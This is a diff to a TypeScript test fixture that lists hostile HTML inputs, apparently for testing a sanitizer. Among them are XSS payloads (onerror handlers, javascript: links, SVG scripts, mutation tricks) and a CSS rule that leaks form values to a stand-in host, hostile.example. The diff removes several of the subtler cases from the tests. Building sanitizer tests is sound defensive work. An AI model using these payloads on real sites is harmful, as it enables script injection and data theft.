@@ -8,7 +8,6 @@ const host = 'https://hostile.example'
 export const hostileHtml: Record<string, string> = {
   script: `<script>${js}</script>`,
   'script from elsewhere': `<script src="${host}/a.js"></script>`,
-  'script module': `<script type="module">import '${host}/a.js'</script>`,
 
   'image that fails': `<img src="x" onerror="${js}">`,
   'handler behind a quote': `<img alt="a" title='"onerror="${js}"' src=x>`,
@@ -17,9 +16,7 @@ export const hostileHtml: Record<string, string> = {
   'video and audio': `<video autoplay src="x" onerror="${js}"></video><audio src="x" onerror="${js}"></audio>`,
 
   'javascript link': `<a href="javascript:${js}">a</a>`,
-  'javascript link in entities': `<a href="&#106;&#x61;vascript&colon;${js}">a</a>`,
   'data link': `<a href="data:text/html,<script>${js}</script>">a</a>`,
-  'blob and file links': '<a href="blob:https://hostile.example/1">a</a><a href="file:///etc/passwd">b</a>',
   'data image with script': `<img src="data:image/svg+xml,<svg onload='${js}' xmlns='http://www.w3.org/2000/svg'/>">`,
   'image that is not https': '<img src="http://hostile.example/a.png"><img src="//hostile.example/b.png">',
   'image in another attribute': `<img srcset="${host}/a.png 1x" sizes="100vw"><table background="${host}/b.png"></table>`,
@@ -28,9 +25,6 @@ export const hostileHtml: Record<string, string> = {
 
   'svg script': `<svg><script>${js}</script></svg>`,
   'svg handler': `<svg onload="${js}"><circle r="9"/></svg>`,
-  'svg foreign object': `<svg><foreignObject><iframe srcdoc="<script>${js}</script>"></iframe></foreignObject></svg>`,
-  'math, table and style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;"></style></mglyph></table></mtext></math>`,
-  'text that looks like markup': `<textarea></textarea><img src=x onerror=${js}><xmp><p title="</xmp><img src=x onerror=${js}>"></p></xmp>`,
 
   'style element': `<style>@import '${host}/a.css';header{display:none}</style>`,
   'style that leaks form values': `<style>input[value^="a"]{background:url(${host}/?a)}</style>`,
@@ -43,7 +37,6 @@ export const hostileHtml: Record<string, string> = {
   stylesheet: `<link rel="stylesheet" href="${host}/a.css"><link rel="prefetch" href="${host}/b">`,
 
   iframe: `<iframe src="${host}"></iframe><iframe src="javascript:${js}"></iframe>`,
-  'iframe with its own document': `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
   'object and embed': `<object data="javascript:${js}"></object><embed src="${host}/a.swf"><applet code="A"></applet>`,
 
   'base URL': `<base href="${host}" target="_blank">`,
@@ -64,9 +57,6 @@ export const hostileHtml: Record<string, string> = {
   'keyboard and editing': '<p tabindex="1" accesskey="s" contenteditable="true" draggable="true">a</p>',
   'live region and role': '<p role="alert" aria-live="assertive" aria-modal="true" data-state="open">a</p>',
   'hidden from some': '<p hidden inert aria-hidden="true">a</p>',
-
-  'deep nesting': `${'<div>'.repeat(1000)}<img src=x onerror=${js}>${'</div>'.repeat(1000)}`,
-  'null characters': `<img src=x on&#0;error=${js}><a href="java&#0;script:${js}">a</a>`,
 }
 
 /** The parser would add the text after a piece to its open tag, attribute or comment. */
@@ -74,7 +64,5 @@ export const unclosedHtml: Record<string, string> = {
   plaintext: `<p>a</p><plaintext><img src=x onerror=${js}>`,
   'unclosed comment': `<p>a</p><!-- <img src=x onerror=${js}>`,
   'unclosed attribute': `<p>a</p><img src=x onerror=${js} alt="`,
-  'unclosed textarea': `<p>a</p><textarea><img src=x onerror=${js}>`,
   'unclosed script': `<p>a</p><script>${js}`,
-  'form in form': `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}></style></mglyph></form>`,
 }
